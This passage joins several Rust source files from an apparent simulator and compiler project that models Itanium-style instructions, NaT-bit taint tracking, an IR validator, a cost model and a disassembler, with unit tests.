    LocalId, "loc"
}
id_type! {
    /// A global-variable id within a program.
    GlobalId, "g"
}

/// A basic block: straight-line instructions plus one terminator.
#[derive(Clone, Debug, Default)]
pub struct Block {
    /// The block body.
    pub insts: Vec<Inst>,
    /// The terminator; `None` only transiently during building.
    pub term: Option<Terminator>,
}

impl Block {
    /// Successor blocks of this block's terminator.
    pub fn successors(&self) -> Vec<BlockId> {
        match &self.term {
            Some(Terminator::Jmp(b)) => vec![*b],
            Some(Terminator::Br { then_bb, else_bb, .. }) => vec![*then_bb, *else_bb],
            Some(Terminator::Ret(_)) | None => Vec::new(),
        }
    }
}

/// A stack slot.
#[derive(Clone, Copy, Debug)]
pub struct Local {
    /// Size in bytes (rounded up to 8 by the frame builder).
    pub size: u64,
}

/// A function: `params` incoming arguments (in `v0..v{params}`), a CFG whose
/// entry is block 0, stack locals, and a virtual-register budget.
#[derive(Clone, Debug)]
pub struct Function {
    /// Function name (link-time symbol).
    pub name: String,
    /// Number of parameters; parameter `i` arrives in `VReg(i)`.
    pub params: usize,
    /// Basic blocks; `BlockId(0)` is the entry.
    pub blocks: Vec<Block>,
    /// Stack slots.
    pub locals: Vec<Local>,
    /// Number of virtual registers used (`v0..v{vregs}`).
    pub vregs: u32,
}

impl Function {
    /// Total IR instruction count including terminators (diagnostics).
    pub fn inst_count(&self) -> usize {
        self.blocks.iter().map(|b| b.insts.len() + 1).sum()
    }
}

/// A global variable.
#[derive(Clone, Debug)]
pub struct Global {
    /// Symbol name.
    pub name: String,
    /// Size in bytes.
    pub size: u64,
    /// Initial contents (zero-filled to `size` if shorter).
    pub init: Vec<u8>,
}

/// A whole program: globals plus functions. Execution starts at the function
/// named `"main"`.
#[derive(Clone, Debug, Default)]
pub struct Program {
    /// All functions; call instructions reference them by name.
    pub funcs: Vec<Function>,
    /// All globals.
    pub globals: Vec<Global>,
}

impl Program {
    /// Looks up a function by name.
    pub fn func(&self, name: &str) -> Option<&Function> {
        self.funcs.iter().find(|f| f.name == name)
    }

    /// Looks up a global by name.
    pub fn global(&self, name: &str) -> Option<(GlobalId, &Global)> {
        self.globals
            .iter()
            .enumerate()
            .find(|(_, g)| g.name == name)
            .map(|(i, g)| (GlobalId(i as u32), g))
    }

    /// Merges another program's functions and globals into this one
    /// (used to link the guest libc with application code).
    ///
    /// # Panics
    ///
    /// Panics on duplicate function names. Global ids in `other` are
    /// remapped.
    pub fn link(&mut self, other: Program) {
        for f in &other.funcs {
            assert!(self.func(&f.name).is_none(), "duplicate function `{}` while linking", f.name);
        }
        let offset = self.globals.len() as u32;
        self.globals.extend(other.globals);
        for mut f in other.funcs {
            for block in &mut f.blocks {
                for inst in &mut block.insts {
                    if let Inst::GlobalAddr { global, .. } = inst {
                        global.0 += offset;
                    }
                }
            }
            self.funcs.push(f);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ProgramBuilder;

    #[test]
    fn display_ids() {
        assert_eq!(VReg(3).to_string(), "v3");
        assert_eq!(BlockId(0).to_string(), "bb0");
        assert_eq!(LocalId(1).to_string(), "loc1");
        assert_eq!(GlobalId(9).to_string(), "g9");
    }

    #[test]
    fn link_remaps_globals() {
        let mut a = ProgramBuilder::new();
        a.global("ga", 8, vec![1]);
        a.func("main", 0, |f| f.ret(None));
        let mut pa = a.build().unwrap();

        let mut b = ProgramBuilder::new();
        let gb = b.global("gb", 8, vec![2]);
        b.func("helper", 0, move |f| {
            let addr = f.global_addr(gb);
            let v = f.load8(addr, 0);
            f.ret(Some(v));
        });
        let pb = b.build().unwrap();

        pa.link(pb);
        assert_eq!(pa.globals.len(), 2);
        let helper = pa.func("helper").unwrap();
        let got = helper.blocks[0]
            .insts
            .iter()
            .find_map(|i| match i {
                Inst::GlobalAddr { global, .. } => Some(*global),
                _ => None,
            })
            .unwrap();
        assert_eq!(got, GlobalId(1), "linked global must be remapped past existing ones");
    }

    #[test]
    #[should_panic(expected = "duplicate function")]
    fn link_rejects_duplicates() {
        let mut a = ProgramBuilder::new();
        a.func("main", 0, |f| f.ret(None));
        let mut pa = a.build().unwrap();
        let mut b = ProgramBuilder::new();
        b.func("main", 0, |f| f.ret(None));
        pa.link(b.build().unwrap());
    }
}
