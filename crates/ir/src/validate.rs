//! Structural validation of IR programs.

use std::collections::HashSet;

use crate::inst::{Inst, Rhs, Terminator};
use crate::program::{Program, VReg};

/// A structural problem in an IR program.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum ValidateError {
    /// A block has no terminator.
    MissingTerminator {
        /// Function name.
        func: String,
        /// Block index.
        block: usize,
    },
    /// A branch targets a nonexistent block.
    BadBlockTarget {
        /// Function name.
        func: String,
        /// The bogus target index.
        target: usize,
    },
    /// A virtual register index is out of the function's declared range.
    BadVReg {
        /// Function name.
        func: String,
        /// The bogus register.
        vreg: VReg,
    },
    /// A local or global id is out of range.
    BadSlot {
        /// Function name.
        func: String,
        /// Description of the bad reference.
        what: String,
    },
    /// A call references an unknown function (checked only for calls whose
    /// target exists nowhere in the program — cross-crate linking resolves
    /// names later, so this is only reported by [`validate_linked`]).
    UnknownCallee {
        /// Function name.
        func: String,
        /// The missing callee.
        callee: String,
    },
    /// A call passes a different number of arguments than the callee takes.
    ArityMismatch {
        /// Calling function.
        func: String,
        /// Callee name.
        callee: String,
        /// Arguments passed.
        passed: usize,
        /// Parameters expected.
        expected: usize,
    },
    /// Two functions or globals share a name.
    DuplicateSymbol {
        /// The duplicated name.
        name: String,
    },
    /// More than 8 call/syscall arguments.
    TooManyArgs {
        /// Function name.
        func: String,
    },
}

impl std::fmt::Display for ValidateError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ValidateError::MissingTerminator { func, block } => {
                write!(f, "function `{func}` block {block} lacks a terminator")
            }
            ValidateError::BadBlockTarget { func, target } => {
                write!(f, "function `{func}` branches to nonexistent block {target}")
            }
            ValidateError::BadVReg { func, vreg } => {
                write!(f, "function `{func}` references undeclared register {vreg}")
            }
            ValidateError::BadSlot { func, what } => {
                write!(f, "function `{func}` references {what}")
            }
            ValidateError::UnknownCallee { func, callee } => {
                write!(f, "function `{func}` calls unknown function `{callee}`")
            }
            ValidateError::ArityMismatch { func, callee, passed, expected } => write!(
                f,
                "function `{func}` calls `{callee}` with {passed} args (expects {expected})"
            ),
            ValidateError::DuplicateSymbol { name } => {
                write!(f, "duplicate symbol `{name}`")
            }
            ValidateError::TooManyArgs { func } => {
                write!(f, "function `{func}` passes more than 8 arguments")
            }
        }
    }
}

impl std::error::Error for ValidateError {}

/// Validates intra-function structure (terminators, register/slot/block
/// ranges) and symbol uniqueness. Call targets may be unresolved.
///
/// # Errors
///
/// Returns the first problem found.
pub fn validate(program: &Program) -> Result<(), ValidateError> {
    let mut names = HashSet::new();
    for f in &program.funcs {
        if !names.insert(f.name.as_str()) {
            return Err(ValidateError::DuplicateSymbol { name: f.name.clone() });
        }
    }
    let mut gnames = HashSet::new();
    for g in &program.globals {
        if !gnames.insert(g.name.as_str()) {
            return Err(ValidateError::DuplicateSymbol { name: g.name.clone() });
        }
    }

    for f in &program.funcs {
        let check_vreg = |v: VReg| -> Result<(), ValidateError> {
            if v.0 < f.vregs {
                Ok(())
            } else {
                Err(ValidateError::BadVReg { func: f.name.clone(), vreg: v })
            }
        };
        for (bi, block) in f.blocks.iter().enumerate() {
            for inst in &block.insts {
                if let Some(d) = inst.def() {
                    check_vreg(d)?;
                }
                for u in inst.uses() {
                    check_vreg(u)?;
                }
                match inst {
                    Inst::LocalAddr { local, .. } if local.index() >= f.locals.len() => {
                        return Err(ValidateError::BadSlot {
                            func: f.name.clone(),
                            what: format!("nonexistent local {local}"),
                        });
                    }
                    Inst::GlobalAddr { global, .. } if global.index() >= program.globals.len() => {
                        return Err(ValidateError::BadSlot {
                            func: f.name.clone(),
                            what: format!("nonexistent global {global}"),
                        });
                    }
                    Inst::Call { args, .. } | Inst::Syscall { args, .. } if args.len() > 8 => {
                        return Err(ValidateError::TooManyArgs { func: f.name.clone() });
                    }
                    _ => {}
                }
            }
            let Some(term) = &block.term else {
                return Err(ValidateError::MissingTerminator { func: f.name.clone(), block: bi });
            };
            for u in term.uses() {
                check_vreg(u)?;
            }
            if let Terminator::Br { rhs: Rhs::Reg(r), .. } = term {
                check_vreg(*r)?;
            }
            for succ in block.successors() {
                if succ.index() >= f.blocks.len() {
                    return Err(ValidateError::BadBlockTarget {
                        func: f.name.clone(),
                        target: succ.index(),
                    });
                }
            }
        }
    }
    Ok(())
}

/// Validates a *linked* program: everything [`validate`] checks, plus call
/// resolution and arity.
///
/// # Errors
///
/// Returns the first problem found.
pub fn validate_linked(program: &Program) -> Result<(), ValidateError> {
    validate(program)?;
    for f in &program.funcs {
        for block in &f.blocks {
            for inst in &block.insts {
                if let Inst::Call { callee, args, .. } = inst {
                    let Some(target) = program.func(callee) else {
                        return Err(ValidateError::UnknownCallee {
                            func: f.name.clone(),
                            callee: callee.clone(),
                        });
                    };
                    if target.params != args.len() {
                        return Err(ValidateError::ArityMismatch {
                            func: f.name.clone(),
                            callee: callee.clone(),
                            passed: args.len(),
                            expected: target.params,
                        });
                    }
                }
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::program::{Block, BlockId, Function};
    use crate::ProgramBuilder;

    fn func_with_block(block: Block) -> Program {
        Program {
            funcs: vec![Function {
                name: "f".into(),
                params: 0,
                blocks: vec![block],
                locals: vec![],
                vregs: 1,
            }],
            globals: vec![],
        }
    }

    #[test]
    fn missing_terminator_detected() {
        let p = func_with_block(Block { insts: vec![], term: None });
        assert_eq!(
            validate(&p),
            Err(ValidateError::MissingTerminator { func: "f".into(), block: 0 })
        );
    }

    #[test]
    fn bad_branch_target_detected() {
        let p = func_with_block(Block { insts: vec![], term: Some(Terminator::Jmp(BlockId(7))) });
        assert!(matches!(validate(&p), Err(ValidateError::BadBlockTarget { target: 7, .. })));
    }

    #[test]
    fn bad_vreg_detected() {
        let p = func_with_block(Block {
            insts: vec![Inst::Const { dst: VReg(5), value: 0 }],
            term: Some(Terminator::Ret(None)),
        });
        assert!(matches!(validate(&p), Err(ValidateError::BadVReg { .. })));
    }

    #[test]
    fn unknown_callee_only_fails_linked_validation() {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            f.call_void("does_not_exist", &[]);
            f.ret(None);
        });
        let p = pb.build().expect("unlinked validation tolerates unresolved calls");
        assert!(matches!(validate_linked(&p), Err(ValidateError::UnknownCallee { .. })));
    }

    #[test]
    fn arity_mismatch_detected() {
        let mut pb = ProgramBuilder::new();
        pb.func("two", 2, |f| f.ret(None));
        pb.func("main", 0, |f| {
            let x = f.iconst(0);
            f.call_void("two", &[x]);
            f.ret(None);
        });
        let p = pb.build().unwrap();
        assert!(matches!(
            validate_linked(&p),
            Err(ValidateError::ArityMismatch { passed: 1, expected: 2, .. })
        ));
    }

    #[test]
    fn duplicate_symbols_detected() {
        let mut pb = ProgramBuilder::new();
        pb.func("f", 0, |f| f.ret(None));
        pb.func("f", 0, |f| f.ret(None));
        assert!(matches!(pb.build(), Err(ValidateError::DuplicateSymbol { .. })));
    }

    #[test]
    fn valid_program_passes_both() {
        let mut pb = ProgramBuilder::new();
        pb.func("leaf", 1, |f| {
            let v = f.param(0);
            f.ret(Some(v));
        });
        pb.func("main", 0, |f| {
            let x = f.iconst(3);
            let r = f.call("leaf", &[x]);
            f.ret(Some(r));
        });
        let p = pb.build().unwrap();
        assert_eq!(validate_linked(&p), Ok(()));
    }
}
