//! Instruction base-latency model.
//!
//! The simulator is in-order and single-issue; an instruction's cost is its
//! base latency from this table plus any memory-hierarchy stall charged by
//! the cache model. Latencies are loosely calibrated to Itanium 2: simple
//! integer ops are 1 cycle, multiplies go through the FP unit and cost more,
//! and taken branches pay a small redirect penalty.
//!
//! Absolute numbers do not need to match the paper's hardware — every
//! experiment reports *ratios* (instrumented vs. baseline cycles) — but the
//! relative weights determine where overhead shows up, so they are kept
//! physically plausible.

use crate::insn::{AluOp, Op};

/// Base instruction latencies, in cycles.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct CostModel {
    /// Simple integer ALU op (add/sub/logical/shift/mov/extend/compare).
    pub alu: u64,
    /// Integer multiply (routed through the FMAC unit on Itanium 2).
    pub mul: u64,
    /// Long-immediate move (`movl` occupies two slots of a bundle).
    pub movl: u64,
    /// Issue cost of a load before memory stalls (address generation).
    pub load_issue: u64,
    /// Issue cost of a store before memory stalls.
    pub store_issue: u64,
    /// Not-taken branch fall-through.
    pub branch_fall: u64,
    /// A predicated-off instruction. Itanium issues up to six instructions
    /// per cycle, so a squashed slot consumes no execution resources; the
    /// scalar cost model approximates it as free. This is what lets
    /// untainted runs skip the cost of taint-conditional instrumentation
    /// (Figure 7's "-safe" bars).
    pub pred_off: u64,
    /// Taken branch redirect penalty (front-end resteer).
    pub branch_taken: u64,
    /// `chk.s` with the NaT bit clear (the common case; a single slot).
    pub chk_clear: u64,
    /// `chk.s` with the NaT bit set (branches to recovery).
    pub chk_set: u64,
    /// Trap into the runtime (kernel entry/exit); intrinsic bodies charge
    /// their own additional cycles.
    pub syscall: u64,
}

impl CostModel {
    /// The default Itanium-2-flavoured model used by all experiments.
    pub const ITANIUM2: CostModel = CostModel {
        alu: 1,
        mul: 4,
        movl: 2,
        load_issue: 1,
        store_issue: 1,
        branch_fall: 1,
        pred_off: 0,
        branch_taken: 2,
        chk_clear: 1,
        chk_set: 3,
        syscall: 40,
    };

    /// Base latency of `op`, excluding memory-hierarchy stalls and
    /// taken-branch penalties (those depend on dynamic outcomes and are
    /// charged by the simulator).
    pub fn base<R>(&self, op: &Op<R>) -> u64 {
        match op {
            Op::Alu { op: AluOp::Mul, .. } | Op::AluI { op: AluOp::Mul, .. } => self.mul,
            Op::Alu { .. } | Op::AluI { .. } | Op::Mov { .. } | Op::Ext { .. } => self.alu,
            Op::MovI { imm, .. } => {
                // Short immediates fit an `adds`-style slot; long ones need movl.
                if i16::try_from(*imm).is_ok() {
                    self.alu
                } else {
                    self.movl
                }
            }
            Op::Cmp { .. } | Op::CmpI { .. } => self.alu,
            Op::Ld { .. } | Op::LdFill { .. } => self.load_issue,
            Op::St { .. } | Op::StSpill { .. } => self.store_issue,
            Op::ChkS { .. } => self.chk_clear,
            Op::Jmp { .. } | Op::Call { .. } | Op::JmpBr { .. } => self.branch_fall,
            Op::MovToBr { .. } | Op::MovFromBr { .. } => self.alu,
            Op::Tnat { .. } | Op::Tset { .. } | Op::Tclr { .. } => self.alu,
            Op::Syscall { .. } => self.syscall,
            Op::Nop => 1,
            Op::Halt => 1,
        }
    }
}

impl Default for CostModel {
    fn default() -> Self {
        CostModel::ITANIUM2
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::reg::Gpr;

    #[test]
    fn simple_ops_are_single_cycle() {
        let m = CostModel::default();
        let add = Op::Alu { op: AluOp::Add, dst: Gpr::R1, src1: Gpr::R2, src2: Gpr::R3 };
        assert_eq!(m.base(&add), 1);
        assert_eq!(m.base(&Op::<Gpr>::Nop), 1);
    }

    #[test]
    fn multiplies_cost_more_than_adds() {
        let m = CostModel::default();
        let mul = Op::Alu { op: AluOp::Mul, dst: Gpr::R1, src1: Gpr::R2, src2: Gpr::R3 };
        let add = Op::Alu { op: AluOp::Add, dst: Gpr::R1, src1: Gpr::R2, src2: Gpr::R3 };
        assert!(m.base(&mul) > m.base(&add));
    }

    #[test]
    fn long_immediates_cost_more() {
        let m = CostModel::default();
        let short = Op::MovI { dst: Gpr::R1, imm: 100 };
        let long = Op::MovI { dst: Gpr::R1, imm: 1 << 40 };
        assert!(m.base(&long) > m.base(&short));
    }

    #[test]
    fn syscall_dominates_alu() {
        let m = CostModel::default();
        assert!(m.base(&Op::<Gpr>::Syscall { num: 0 }) >= 10 * m.alu);
    }
}
