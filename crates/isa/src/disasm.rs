//! Textual disassembly of instructions, in an IA-64-flavoured syntax.
//!
//! The format intentionally mirrors the paper's listings: speculative loads
//! print as `ld8.s`, spills as `st8.spill`, checks as `chk.s`, and a
//! non-`p0` qualifying predicate prints as an IA-64 guard: `(p3) st8 …`.

use core::fmt;

use crate::insn::{ExtKind, Insn, MemSize, Op};
use crate::reg::Pr;

impl fmt::Display for MemSize {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.bytes())
    }
}

impl<R: fmt::Display> fmt::Display for Op<R> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Op::Alu { op, dst, src1, src2 } => {
                write!(f, "{} {dst} = {src1}, {src2}", op.mnemonic())
            }
            Op::AluI { op, dst, src1, imm } => {
                write!(f, "{} {dst} = {src1}, {imm}", op.mnemonic())
            }
            Op::MovI { dst, imm } => write!(f, "movl {dst} = {imm:#x}"),
            Op::Mov { dst, src } => write!(f, "mov {dst} = {src}"),
            Op::Ext { kind, size, dst, src } => {
                let m = match kind {
                    ExtKind::Sign => "sxt",
                    ExtKind::Zero => "zxt",
                };
                write!(f, "{m}{size} {dst} = {src}")
            }
            Op::Cmp { rel, pt, pf, src1, src2, nat_aware } => {
                let nat = if *nat_aware { ".nat" } else { "" };
                write!(f, "cmp.{}{nat} {pt}, {pf} = {src1}, {src2}", rel.mnemonic())
            }
            Op::CmpI { rel, pt, pf, src1, imm, nat_aware } => {
                let nat = if *nat_aware { ".nat" } else { "" };
                write!(f, "cmp.{}{nat} {pt}, {pf} = {src1}, {imm}", rel.mnemonic())
            }
            Op::Ld { size, ext, dst, addr, spec } => {
                let s = if *spec { ".s" } else { "" };
                let e = match (size, ext) {
                    (MemSize::B8, _) => "",
                    (_, ExtKind::Sign) => ".sx",
                    (_, ExtKind::Zero) => "",
                };
                write!(f, "ld{size}{e}{s} {dst} = [{addr}]")
            }
            Op::St { size, src, addr } => write!(f, "st{size} [{addr}] = {src}"),
            Op::StSpill { src, addr } => write!(f, "st8.spill [{addr}] = {src}"),
            Op::LdFill { dst, addr } => write!(f, "ld8.fill {dst} = [{addr}]"),
            Op::ChkS { src, target } => write!(f, "chk.s {src}, L{target}"),
            Op::Jmp { target } => write!(f, "br L{target}"),
            Op::Call { link, target } => write!(f, "br.call {link} = L{target}"),
            Op::JmpBr { br } => write!(f, "br {br}"),
            Op::MovToBr { br, src } => write!(f, "mov {br} = {src}"),
            Op::MovFromBr { dst, br } => write!(f, "mov {dst} = {br}"),
            Op::Tnat { pt, pf, src } => write!(f, "tnat.nz {pt}, {pf} = {src}"),
            Op::Tset { dst } => write!(f, "tset {dst}"),
            Op::Tclr { dst } => write!(f, "tclr {dst}"),
            Op::Syscall { num } => write!(f, "syscall {num}"),
            Op::Nop => write!(f, "nop"),
            Op::Halt => write!(f, "halt"),
        }
    }
}

impl fmt::Display for Insn {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.qp != Pr::P0 {
            write!(f, "({}) {}", self.qp, self.op)
        } else {
            write!(f, "{}", self.op)
        }
    }
}

/// Formats a code range as an address-annotated listing, one instruction per
/// line, with provenance shown for instrumented instructions.
///
/// ```
/// use shift_isa::{disasm_listing, Insn, Op};
/// let code = [Insn::new(Op::Nop), Insn::new(Op::Halt)];
/// let text = disasm_listing(&code, 0);
/// assert!(text.contains("0000:  nop"));
/// ```
pub fn disasm_listing(code: &[Insn], base: usize) -> String {
    use core::fmt::Write as _;
    let mut out = String::new();
    for (i, insn) in code.iter().enumerate() {
        let _ = write!(out, "{:04}:  {insn}", base + i);
        if insn.prov.is_instrumentation() {
            let _ = write!(out, "    ; [{}]", insn.prov);
        }
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::insn::{AluOp, CmpRel};
    use crate::provenance::Provenance;
    use crate::reg::Gpr;

    #[test]
    fn paper_style_mnemonics() {
        let ld = Insn::new(Op::Ld {
            size: MemSize::B8,
            ext: ExtKind::Zero,
            dst: Gpr::R14,
            addr: Gpr::R13,
            spec: true,
        });
        assert_eq!(ld.to_string(), "ld8.s r14 = [r13]");

        let spill = Insn::new(Op::StSpill { src: Gpr::R15, addr: Gpr::R12 });
        assert_eq!(spill.to_string(), "st8.spill [r12] = r15");

        let chk = Insn::new(Op::ChkS { src: Gpr::R15, target: 42 });
        assert_eq!(chk.to_string(), "chk.s r15, L42");
    }

    #[test]
    fn predicated_form() {
        let st = Insn::new(Op::St { size: MemSize::B1, src: Gpr::R2, addr: Gpr::R3 }).under(Pr::P6);
        assert_eq!(st.to_string(), "(p6) st1 [r3] = r2");
    }

    #[test]
    fn nat_aware_compare_prints_suffix() {
        let cmp = Insn::new(Op::Cmp {
            rel: CmpRel::Eq,
            pt: Pr::P1,
            pf: Pr::P2,
            src1: Gpr::R4,
            src2: Gpr::R5,
            nat_aware: true,
        });
        assert_eq!(cmp.to_string(), "cmp.eq.nat p1, p2 = r4, r5");
    }

    #[test]
    fn listing_shows_provenance() {
        let code = [
            Insn::new(Op::Nop),
            Insn::tagged(
                Op::AluI { op: AluOp::Shr, dst: Gpr::R30, src1: Gpr::R13, imm: 3 },
                Provenance::LdTagCompute,
            ),
        ];
        let text = disasm_listing(&code, 100);
        assert!(text.contains("0100:  nop"));
        assert!(text.contains("[ld-compute]"));
    }
}
