//! Instruction and operand definitions.

use crate::provenance::Provenance;
use crate::reg::{Br, Gpr, Pr};

/// Width of a memory access, in the IA-64 `ld1/ld2/ld4/ld8` style.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum MemSize {
    /// 1 byte.
    B1,
    /// 2 bytes.
    B2,
    /// 4 bytes.
    B4,
    /// 8 bytes (a "word" in the paper's terminology).
    B8,
}

impl MemSize {
    /// Access width in bytes.
    #[inline]
    pub const fn bytes(self) -> u64 {
        match self {
            MemSize::B1 => 1,
            MemSize::B2 => 2,
            MemSize::B4 => 4,
            MemSize::B8 => 8,
        }
    }

    /// All sizes, smallest first.
    pub const ALL: [MemSize; 4] = [MemSize::B1, MemSize::B2, MemSize::B4, MemSize::B8];
}

/// Integer ALU operation.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum AluOp {
    /// Two's-complement addition.
    Add,
    /// Two's-complement subtraction.
    Sub,
    /// Bitwise AND.
    And,
    /// Bitwise OR.
    Or,
    /// Bitwise XOR.
    Xor,
    /// Logical shift left (shift count taken modulo 64).
    Shl,
    /// Logical shift right (shift count taken modulo 64).
    Shr,
    /// Arithmetic shift right (shift count taken modulo 64).
    Sar,
    /// 64×64→64 multiplication (multi-cycle; see [`crate::CostModel`]).
    Mul,
}

impl AluOp {
    /// Mnemonic used by the disassembler.
    pub const fn mnemonic(self) -> &'static str {
        match self {
            AluOp::Add => "add",
            AluOp::Sub => "sub",
            AluOp::And => "and",
            AluOp::Or => "or",
            AluOp::Xor => "xor",
            AluOp::Shl => "shl",
            AluOp::Shr => "shr",
            AluOp::Sar => "sar",
            AluOp::Mul => "mul",
        }
    }
}

/// Comparison relation for `cmp` instructions. Signed unless suffixed `u`.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum CmpRel {
    /// Equal.
    Eq,
    /// Not equal.
    Ne,
    /// Signed less-than.
    Lt,
    /// Signed less-or-equal.
    Le,
    /// Signed greater-than.
    Gt,
    /// Signed greater-or-equal.
    Ge,
    /// Unsigned less-than.
    Ltu,
    /// Unsigned greater-or-equal.
    Geu,
}

impl CmpRel {
    /// Mnemonic suffix used by the disassembler (`cmp.eq`, `cmp.ltu`, …).
    pub const fn mnemonic(self) -> &'static str {
        match self {
            CmpRel::Eq => "eq",
            CmpRel::Ne => "ne",
            CmpRel::Lt => "lt",
            CmpRel::Le => "le",
            CmpRel::Gt => "gt",
            CmpRel::Ge => "ge",
            CmpRel::Ltu => "ltu",
            CmpRel::Geu => "geu",
        }
    }

    /// Evaluates the relation on two 64-bit values.
    #[inline]
    pub fn eval(self, a: u64, b: u64) -> bool {
        match self {
            CmpRel::Eq => a == b,
            CmpRel::Ne => a != b,
            CmpRel::Lt => (a as i64) < (b as i64),
            CmpRel::Le => (a as i64) <= (b as i64),
            CmpRel::Gt => (a as i64) > (b as i64),
            CmpRel::Ge => (a as i64) >= (b as i64),
            CmpRel::Ltu => a < b,
            CmpRel::Geu => a >= b,
        }
    }

    /// The relation with operands swapped (`a R b` ⇔ `b R.swapped() a`).
    pub const fn swapped(self) -> CmpRel {
        match self {
            CmpRel::Eq => CmpRel::Eq,
            CmpRel::Ne => CmpRel::Ne,
            CmpRel::Lt => CmpRel::Gt,
            CmpRel::Le => CmpRel::Ge,
            CmpRel::Gt => CmpRel::Lt,
            CmpRel::Ge => CmpRel::Le,
            CmpRel::Ltu => CmpRel::Geu, // note: strictness flips via negation, not swap
            CmpRel::Geu => CmpRel::Ltu,
        }
    }

    /// The negated relation (`!(a R b)` ⇔ `a R.negated() b`).
    pub const fn negated(self) -> CmpRel {
        match self {
            CmpRel::Eq => CmpRel::Ne,
            CmpRel::Ne => CmpRel::Eq,
            CmpRel::Lt => CmpRel::Ge,
            CmpRel::Le => CmpRel::Gt,
            CmpRel::Gt => CmpRel::Le,
            CmpRel::Ge => CmpRel::Lt,
            CmpRel::Ltu => CmpRel::Geu,
            CmpRel::Geu => CmpRel::Ltu,
        }
    }
}

/// Sign- or zero-extension for sub-word loads and `sxt`/`zxt` instructions.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum ExtKind {
    /// Sign-extend from the source width.
    Sign,
    /// Zero-extend from the source width.
    Zero,
}

/// The operation part of an instruction (everything except the qualifying
/// predicate and the provenance label).
///
/// Branch and call targets are absolute instruction indices into the code
/// image; the compiler resolves symbolic labels before emission.
///
/// `Op` is generic over the register name type `R` so that the compiler can
/// reuse the exact instruction vocabulary with *virtual* registers before
/// allocation; the machine only ever executes `Op<Gpr>`.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Op<R = Gpr> {
    /// Three-register ALU operation: `dst = src1 op src2`.
    Alu {
        /// Operation to perform.
        op: AluOp,
        /// Destination register.
        dst: R,
        /// First source.
        src1: R,
        /// Second source.
        src2: R,
    },
    /// Register-immediate ALU operation: `dst = src1 op imm`.
    ///
    /// Models IA-64 `adds`/`shladd`-style short-immediate forms; the
    /// simulator accepts any `i64` but the cost model charges long-immediate
    /// forms like `movl` only for [`Op::MovI`].
    AluI {
        /// Operation to perform.
        op: AluOp,
        /// Destination register.
        dst: R,
        /// Register source.
        src1: R,
        /// Immediate source.
        imm: i64,
    },
    /// Load a (possibly 64-bit) immediate: `dst = imm` (IA-64 `movl`).
    MovI {
        /// Destination register.
        dst: R,
        /// Immediate value.
        imm: i64,
    },
    /// Register move: `dst = src` (preserves the NaT bit).
    Mov {
        /// Destination register.
        dst: R,
        /// Source register.
        src: R,
    },
    /// Sign/zero extension from a sub-word width: `dst = ext(src)`.
    Ext {
        /// Extension kind.
        kind: ExtKind,
        /// Width of the value being extended.
        size: MemSize,
        /// Destination register.
        dst: R,
        /// Source register.
        src: R,
    },
    /// Predicate-writing compare: `(pt, pf) = src1 rel src2`.
    ///
    /// With `nat_aware == false` (the only form real Itanium has), a NaT bit
    /// on either source **clears both** target predicates — the deferred-
    /// exception behaviour that survives mis-speculation but breaks taint
    /// tracking (§3.1). With `nat_aware == true` (paper's proposed
    /// enhancement), the compare proceeds on the register values and NaT
    /// bits are ignored.
    Cmp {
        /// Relation evaluated.
        rel: CmpRel,
        /// Predicate set to the comparison result.
        pt: Pr,
        /// Predicate set to the complement of the result.
        pf: Pr,
        /// First source.
        src1: R,
        /// Second source.
        src2: R,
        /// Whether this is the NaT-aware enhanced form.
        nat_aware: bool,
    },
    /// Compare against an immediate: `(pt, pf) = src1 rel imm`.
    CmpI {
        /// Relation evaluated.
        rel: CmpRel,
        /// Predicate set to the comparison result.
        pt: Pr,
        /// Predicate set to the complement of the result.
        pf: Pr,
        /// Register source.
        src1: R,
        /// Immediate compared against.
        imm: i64,
        /// Whether this is the NaT-aware enhanced form.
        nat_aware: bool,
    },
    /// Load from memory: `dst = [addr]`, optionally speculative (`ld*.s`).
    ///
    /// A non-speculative load through a NaT address raises a NaT-consumption
    /// fault; the speculative form instead sets `dst`'s NaT bit. A
    /// speculative load from an invalid (unmapped or unimplemented) address
    /// also sets the NaT bit instead of faulting — SHIFT uses exactly this to
    /// manufacture taint (Figure 5, instruction ①/②).
    Ld {
        /// Access width.
        size: MemSize,
        /// Extension applied to sub-word data.
        ext: ExtKind,
        /// Destination register.
        dst: R,
        /// Address register.
        addr: R,
        /// `true` for the speculative `ld*.s` form.
        spec: bool,
    },
    /// Store to memory: `[addr] = src`.
    ///
    /// Storing a register whose NaT bit is set raises a NaT-consumption
    /// fault (use [`Op::StSpill`] to store tainted data).
    St {
        /// Access width.
        size: MemSize,
        /// Source register.
        src: R,
        /// Address register.
        addr: R,
    },
    /// `st8.spill`: store 8 bytes and bank the NaT bit into `UNAT`.
    StSpill {
        /// Source register (NaT allowed).
        src: R,
        /// Address register.
        addr: R,
    },
    /// `ld8.fill`: load 8 bytes and restore the NaT bit from `UNAT`.
    LdFill {
        /// Destination register.
        dst: R,
        /// Address register.
        addr: R,
    },
    /// `chk.s`: branch to `target` if `src`'s NaT bit is set.
    ///
    /// On real hardware this vectors to compiler-generated recovery code;
    /// SHIFT also uses it to run user-level security handlers (§3.3.3).
    ChkS {
        /// Register whose NaT bit is tested.
        src: R,
        /// Absolute instruction index of the recovery code.
        target: usize,
    },
    /// Branch to an absolute instruction index (conditional via `qp`).
    Jmp {
        /// Absolute instruction index.
        target: usize,
    },
    /// Call: saves the return address in `link` and jumps to `target`.
    Call {
        /// Branch register receiving the return address.
        link: Br,
